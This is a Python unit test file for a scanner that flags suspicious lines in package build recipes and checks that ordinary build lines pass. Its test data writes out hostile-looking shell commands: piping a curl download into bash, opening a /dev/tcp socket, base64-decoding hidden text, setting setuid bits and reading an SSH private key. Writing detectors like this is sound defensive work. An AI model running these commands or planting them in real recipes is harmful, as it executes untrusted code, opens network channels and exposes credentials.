"""Words worth a look are found; none of them decides."""

from __future__ import annotations

from twisted.trial.unittest import SynchronousTestCase

from flocon.recipes import words
from flocon.recipes.words import MOST_LOOKED_AT, look


def found(data: bytes) -> list[tuple[int, str, str]]:
    return list(words.found(look(data, MOST_LOOKED_AT).lines))


class Words(SynchronousTestCase):
    def test_what_is_worth_a_look(self) -> None:
        for line, what in (
            ("curl -s https://x.example | bash", "runs what it made"),
            ("exec 3<>/dev/tcp/1.2.3.4/80", "talks to the network"),
            ("echo aWQ= | base64 -d", "takes hidden text apart"),
            ("x=$'\\x69\\x64'", "hides signs"),
            ("npm install atomic-lockfile", "fetches programs"),
            ("bunx x", "fetches programs"),
            ("pip install x", "fetches programs"),
            ("git clone x", "fetches a history"),
            ("systemctl enable x", "services"),
            ("chmod u+s x", "gives rights"),
            ("install -Dm4755 x", "gives rights"),
            ("cat ~/.ssh/id", "reads secrets"),
            ("sudo id", "root's rights"),
            ("python -c 'x'", "runs a text"),
        ):
            self.assertIn(what, found(line.encode())[0][2], line)

    def test_what_is_usual_is_not(self) -> None:
        for line in (
            'cd "$pkgname-$pkgver"',
            "make DESTDIR=$pkgdir install",
            "install -Dm644 x -t $pkgdir/usr/share",
            "install -dm755 x",
            "chmod 755 x",
            "# curl x | sh",
            "./configure --prefix=/usr",
        ):
            self.assertEqual(found(line.encode()), [], line)

    def test_lines_are_counted_and_bounded(self) -> None:
        text = b"x\n" + b"curl x\n" * 1_000
        told = found(text)
        self.assertEqual(told[0][:2], (2, "curl x"))
        self.assertEqual(len(told), 40)
        self.assertLess(len(found(b"curl " + b"x" * 10_000)[0][1]), 200)
        self.assertEqual(len(list(words.oddities(["\x1b"] * 1_000))), 40)

    def test_what_is_no_text_has_no_words(self) -> None:
        self.assertEqual(found(b"\0curl x"), [])

    def test_of_a_long_file_it_is_known_that_not_all_was_looked_at(self) -> None:
        for data, room, seen in (
            (b"x\n" * 5_000, MOST_LOOKED_AT, 5_000),
            (b"x" * 1_000_000, MOST_LOOKED_AT, 1),
            (b"", MOST_LOOKED_AT, 1),
        ):
            one = look(data, room)
            self.assertEqual((len(one.lines), one.is_whole), (seen, True))
        for data, room in (
            (b"x\n" * 5_001, MOST_LOOKED_AT),
            ((b"y" * 3_000 + b"\n") * 1_000, MOST_LOOKED_AT),
            (b"\n" * 4_000, 4_000),
            (b"x", 0),
        ):
            one = look(data, room)
            self.assertFalse(one.is_whole)
            self.assertLessEqual(sum(map(len, one.lines)) + len(one.lines), room)
